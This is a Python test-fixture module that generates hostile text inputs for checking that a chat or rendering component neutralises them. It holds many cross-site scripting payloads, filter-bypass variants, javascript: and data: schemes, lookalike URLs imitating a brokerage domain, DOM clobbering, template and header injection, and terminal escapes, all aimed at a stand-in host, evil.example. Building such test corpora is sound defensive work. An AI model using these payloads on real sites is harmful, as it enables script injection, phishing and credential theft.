"""Texts that try to run something, to be more than text, or to lead somewhere else.

Each carries a mark of its own, so that whatever comes of it can be told apart: running one sets
``window.__ran``, and every address in them is one that nobody serves.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

EVIL = "evil.example"
RUN = "window.__ran=1"
EVENTS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle"),
    *("onanimationstart", "ontransitionend", "onbeforeinput", "onscroll", "oncopy", "onpaste"),
)
TAGS = (
    *("img src=x", "svg", "video src=x", "audio src=x", "body", "details open", "input autofocus"),
    *("iframe src=about:blank", "object data=x", "marquee", "style", "math", "a href=#", "select"),
)
SCHEMES = (
    *(
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "\x01javascript:",
        " javascript:",
    ),
    *("javascript&colon;", "&#106;avascript:", "\\u006aavascript:", "ｊavascript:", "vbscript:"),
    *("data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:", "file:///"),
    *("view-source:javascript:", "feed:javascript:", "jar:", "filesystem:", "about:", "mailto:x?"),
)
ADDRESSES = (
    f"http://{EVIL}/",
    f"//{EVIL}/",
    f"https:{EVIL}/",
    f"https:/{EVIL}/",
    f"https:\\\\{EVIL}\\",
    f"https://\\{EVIL}/",
    f"https://www.interactivebrokers.com@{EVIL}/",
    f"https://www.interactivebrokers.com:443@{EVIL}/",
    f"https://www.interactivebrokers.com%40{EVIL}/",
    f"https://www.interactivebrokers.com\\@{EVIL}/",
    f"https://www.interactivebrokers.com#@{EVIL}/",
    f"https://user:word@{EVIL}/",
    f"https://{EVIL}:8443/",
    f"https://{EVIL}\u2044path",
    f"https://{EVIL}\u3002/",
    "https://www.interactivebr\u043ekers.com/",
    "https://www.interactivebrokers.c\u043em/",
    "https://xn--interactivebrkers-3uj.com/",
    "https://www.xn--80ak6aa92e.com/",
    "https://\u202emoc.example/",
    "https://203.0.113.7/",
    "https://[2001:db8::1]/",
    "https://3405803783/",
    "https://0xcb007107/",
    "https://localhost/",
    "https://WWW.EVIL.EXAMPLE/",
    "HTTPS://evil.example/",
    "https://",
    "https:///evil.example",
    "https://evil..example/",
    "https://.evil.example/",
    "https://evil.example./",
    "ftp://evil.example/",
    "wss://evil.example/",
    f"https://{EVIL}/{'a' * 3000}",
)
MARKDOWN = (
    "[click]({})",
    "![picture]({})",
    "[click](<{}>)",
    '[click]({} "title")',
    "[click][1]\n\n[1]: {}",
    "<{}>",
    "[![x]({})](https://x)",
    "**[click]({})**",
    "`[click]({})`",
    "\\[click]({})",
    "[www.interactivebrokers.com]({})",
)
HTML = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</ScRiPt>",
    f"<script src=//{EVIL}/x.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0b>{RUN}</script>",
    f"<script/x>{RUN}</script >",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><animate attributeName=href values=javascript:{RUN} /></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math><mi><style><!--</style><img src=x onerror={RUN}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<table background=javascript:{RUN}>",
    f"<base href=https://{EVIL}/>",
    f"<meta http-equiv=refresh content='0;url=https://{EVIL}/'>",
    f"<link rel=stylesheet href=https://{EVIL}/x.css>",
    f"<link rel=prefetch href=https://{EVIL}/x>",
    f"<style>@import url(https://{EVIL}/x.css)</style>",
    f"<style>*{{background:url(https://{EVIL}/x)}}</style>",
    f"<div style='background:url(https://{EVIL}/x)'>",
    "<div style='position:fixed;inset:0;z-index:9999'>",
    f"<form action=https://{EVIL}/><input name=pin><button>OK</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<embed src=javascript:{RUN}>",
    f"<img srcset=https://{EVIL}/x>",
    f"<picture><source srcset=https://{EVIL}/x><img></picture>",
    f"<video poster=https://{EVIL}/x></video>",
    f"<a href=https://{EVIL}/ ping=https://{EVIL}/>x</a>",
    f"<portal src=https://{EVIL}/></portal>",
    f"<input type=image src=https://{EVIL}/x>",
    "<dialog open><form method=dialog><button>x</button></form></dialog>",
    "<lotse-chat></lotse-chat>",
    "<slot name=x></slot>",
)
CLOBBERING = tuple(
    f"<{tag} id={name} name={name}>"
    for tag, name in product(
        ("img", "form", "a"),
        ("document", "body", "cookie", "location", "lotse", "currentScript", "customElements",
         "attributes", "__proto__", "getElementById"),
    )
)  # fmt: skip
OTHER = (
    '{"__proto__": {"text": "x", "ran": 1}}',
    '{"constructor": {"prototype": {"ran": 1}}}',
    '"};window.__ran=1;//',
    "';window.__ran=1;//",
    "`${window.__ran=1}`",
    "${window.__ran=1}",
    "{{constructor.constructor('window.__ran=1')()}}",
    "{{7*7}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "%s%n%x%p",
    "</script\u2028<script>window.__ran=1</script>",
    "line\u2028separator\u2029paragraph",
    "\u202e>tpircs/<1=nar__>tpircs<",
    "\u2066\u2067\u2068bidi\u2069",
    "\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m",
    "\x9b31mred\x9bm \x9d0;title\x9c",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\r\nSet-Cookie: ran=1\r\n\r\n<script>window.__ran=1</script>",
    '\n{"level": "INFO", "message": "a line of somebody else"}\n',
    "<!channel> <!here> <!everyone> <@U0LOTSE01> <#C0HELP|help>",
    f"<https://{EVIL}|www.interactivebrokers.com> <mailto:x@{EVIL}|mail> <tel:1|call>",
    "&lt;!channel&gt; &amp;lt;!here&amp;gt; <!date^1^{date}^https://evil.example|x>",
    "```\n<!channel>\n``` ` ``` <!here>",
    "*bold* _it_ ~no~ > quote :smile: ||spoiler||",
    "| a | b |\n| - | - |\n| <img src=x onerror=window.__ran=1> | x |",
    "> <img src=x onerror=window.__ran=1>",
    "# <img src=x onerror=window.__ran=1>",
    "- <img src=x onerror=window.__ran=1>\n1. <svg onload=window.__ran=1>",
    "```html\n<img src=x onerror=window.__ran=1>\n```",
    "**<img src=x onerror=window.__ran=1>**",
    "*<img src=x onerror=window.__ran=1>*",
    "`<img src=x onerror=window.__ran=1>`",
    "\u0301" * 300 + "<img src=x onerror=window.__ran=1>",
    "<img\u200b src=x onerror=window.__ran=1>",
    "＜img src=x onerror=window.__ran=1＞",
    "＜script＞window.__ran=1＜/script＞",
    "+ADw-script+AD4-window.__ran=1+ADw-/script+AD4-",
    "%3Cscript%3Ewindow.__ran=1%3C/script%3E",
    "&#60;script&#62;window.__ran=1&#60;/script&#62;",
    "\\x3cscript\\x3ewindow.__ran=1\\x3c/script\\x3e",
    "\\u003cscript\\u003ewindow.__ran=1\\u003c/script\\u003e",
)


def hostile_texts() -> list[str]:
    """Return all of them, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from HTML
    yield from CLOBBERING
    yield from OTHER
    yield from (f"<{tag} {event}={RUN}>" for tag, event in product(TAGS, EVENTS))
    yield from (f'" {event}={RUN} x="' for event in EVENTS)
    yield from (f"' {event}={RUN} x='" for event in EVENTS)
    for number, (form, address) in enumerate(product(MARKDOWN, [*map(_run, SCHEMES), *ADDRESSES])):
        if number % 3 == 0 or form == MARKDOWN[0]:
            yield form.format(address)
    yield from (f'<a href="{_run(scheme)}">click</a>' for scheme in SCHEMES)


def _run(scheme: str) -> str:
    return f"{scheme}{RUN}"
